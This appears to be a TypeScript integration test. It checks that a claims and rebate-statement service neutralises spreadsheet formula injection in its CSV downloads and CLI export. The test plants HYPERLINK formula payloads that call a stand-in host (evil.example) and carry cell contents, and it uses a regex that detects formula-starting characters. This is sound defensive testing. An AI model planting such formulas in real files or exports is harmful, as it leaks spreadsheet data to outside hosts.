import {
  issueStatementForTest,
  parseCsv,
  queryRows,
  signInCast,
  startTestStack,
  stopTestStack,
  submitClaimFileAndWait,
  type TestStack,
} from '@lib/testing';
import { exportStatement } from '../../cli/src/statement/statement-export-client';

/** OWASP's formula starters: a spreadsheet evaluates a cell that starts with one of them. */
const PREFIXES = ['=', '+', '-', '@', '\t', '\r'];
const payload = (prefix: string, i: number) => `${prefix}HYPERLINK("http://evil.example/?x=${i}"&A2,"open")`;
const PAYLOADS = PREFIXES.map(payload);

/** A NY CLAIMOT file: a clean claim per payload ICN, plus an orphan line (no header) per payload. */
function claimFile(sequence: number, withOrphans: boolean): Buffer {
  const records: string[] = [];
  const header = (icn: string) =>
    `COT00002|36|${records.length + 1}|${icn}||20260320|0|F00000001|1|F1|0|1234567893|||20260315|20260315||10.00`;
  const line = (icn: string) =>
    `COT00003|36|${records.length + 1}|${icn}||20260320|0|1||99213||0||1|20260315|20260315|10.00`;
  // Enough clean claims that the orphans stay under the 10 % record-problem limit.
  for (let i = 0; i < 60; i++) records.push(header(`NY20260301CSV${String(i).padStart(3, '0')}`));
  for (const icn of PAYLOADS) records.push(header(icn));
  if (withOrphans) for (const icn of PAYLOADS) records.push(line(`${icn}-orphan`));
  const fileHeader = `COT00001|4.0.0|O|CLAIMOT|36|20260405|20260301|20260331|${sequence}|${records.length}`;
  return Buffer.from([fileHeader, ...records].join('\n') + '\n');
}

/** Every cell of a column a spreadsheet would read, with the header row's names. */
function cells(csv: string): { header: string[]; rows: Record<string, string>[] } {
  const [header, ...rows] = parseCsv(csv);
  return { header, rows: rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))) };
}

const DANGEROUS = /^[=+\-@\t\r]/;
const PLAIN_DECIMAL = /^-?\d+(\.\d+)?$/;

/** No cell starts a formula, except plain decimal numbers in the number columns. */
function formulaCells(csv: string, numberColumns: string[]): string[] {
  return cells(csv).rows.flatMap((row) =>
    Object.entries(row)
      .filter(
        ([column, value]) => DANGEROUS.test(value) && !(numberColumns.includes(column) && PLAIN_DECIMAL.test(value)),
      )
      .map(([column, value]) => `${column}=${JSON.stringify(value)}`),
  );
}

/**
 * README "Security", row "Spreadsheet formula injection in downloads": state-controlled claim
 * fields starting with `=`, `+`, `-`, `@`, tab or CR reach every CSV download neutralised (a
 * leading single quote), while money stays a plain signed number.
 */
describe('CSV downloads neutralise formula injection', () => {
  let stack: TestStack;
  let tokens: Record<string, string>;
  const download = async (path: string, token: string) => {
    const response = await fetch(`${stack.api.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('text/csv');
    return response.text();
  };

  beforeAll(async () => {
    stack = await startTestStack();
    tokens = await signInCast(stack, ['NY', 'coordinator', 'vertex']);
  });

  afterAll(async () => {
    await stopTestStack(stack);
  });

  it('problems.csv and exceptions.csv: every dangerous ICN comes back quote-prefixed', async () => {
    const api = { url: stack.api.url, databaseUrl: stack.db.url, token: tokens.NY };
    const first = await submitClaimFileAndWait(api, 'NY', 'first.txt', claimFile(1, true));
    expect(first.status).toBe('COMPLETED');
    // The same claims again: each earlier version becomes an R exception naming its ICN.
    const second = await submitClaimFileAndWait(api, 'NY', 'second.txt', claimFile(2, false));
    expect(second.status).toBe('COMPLETED');

    const problems = await download(`/v1/claim-submissions/${first.id}/problems.csv`, tokens.NY);
    const problemRows = cells(problems).rows.filter((r) => r.reason_code === 'ORPHAN');
    const stored = await queryRows<{ icn_orig: string }>(
      stack.db.url,
      `SELECT icn_orig FROM record_problem WHERE submission_id = $1 AND reason = 'ORPHAN' ORDER BY position`,
      [first.id],
    );
    expect(stored.map((r) => r.icn_orig)).toEqual(PAYLOADS.map((p) => `${p}-orphan`));
    expect(problemRows.map((r) => r.icn_orig)).toEqual(PAYLOADS.map((p) => `'${p}-orphan`));
    expect(problemRows.map((r) => r.value)).toEqual(PAYLOADS.map((p) => `'${p}-orphan`));
    expect(formulaCells(problems, ['position', 'line', 'record_number', 'field_number'])).toEqual([]);

    const exceptions = await download(`/v1/claim-submissions/${second.id}/exceptions.csv`, tokens.coordinator);
    const icns = cells(exceptions).rows.map((r) => r.icn_orig);
    for (const p of PAYLOADS) expect(icns).toContain(`'${p}`);
    expect(formulaCells(exceptions, ['record_number', 'position'])).toEqual([]);
    expect(exceptions.split('\r\n')[0]).toBe('code,record_number,position,icn_orig,icn_adj,field_name,reason');
  });

  it('statement CSVs (HTTP and the CLI export): text cells neutralised, negative amounts stay numbers', async () => {
    // Reference data cannot hold such values; plant them below the API to prove the writer holds.
    const [{ product_id: productId }] = await queryRows<{ product_id: string }>(
      stack.db.url,
      `SELECT id AS product_id FROM product WHERE code = 'CASGEVY'`,
    );
    for (const [i, ref] of PAYLOADS.entries()) {
      await queryRows(
        stack.db.url,
        `WITH e AS (
           INSERT INTO episode (episode_key, episode_ref, state_code, product_id, labeler_code, index_icn,
                                administration_date, paid, status, fingerprint, created_by_cause, updated_by_cause)
           VALUES ($1, $2, 'NY', $3, '51167', 'ICN-CSV', '2026-03-10', 2200000, 'ELIGIBLE', 'f', 'csv', 'csv')
           RETURNING id)
         INSERT INTO ledger_entry (episode_id, state_code, labeler_code, product_id, administration_date, component,
                                   amount, service_quarter, statement_quarter, cause_type, cause_id)
         SELECT id, 'NY', '51167', $3, '2026-03-10', 'GUARANTEED', $4, '2099Q1', '2099Q1', 'SUBMISSION', 'csv' FROM e`,
        [`NY|csv|${i}`, ref, productId, i % 2 === 0 ? '-220000.00' : '220000.00'],
      );
    }
    const statement = await issueStatementForTest(stack.db.url, {
      labelerCode: '51167',
      stateCode: 'NY',
      quarter: '2099Q1',
      issuedOn: '2026-05-01',
    });
    const byNumber = await download(`/v1/statements/${statement.number}.csv`, tokens.vertex);
    const byKey = await exportStatement({
      api: stack.api.url,
      token: tokens.vertex,
      labeler: '51167',
      state: 'NY',
      quarter: '2099Q1',
      format: 'csv',
    });
    for (const csv of [byNumber, byKey]) {
      const { rows } = cells(csv);
      expect(rows.map((r) => r.episode_ref).sort()).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
      expect(rows.map((r) => r.amount).sort()).toEqual([
        '-220000.00',
        '-220000.00',
        '-220000.00',
        '220000.00',
        '220000.00',
        '220000.00',
      ]);
      expect(formulaCells(csv, ['amount'])).toEqual([]);
    }
  });
});
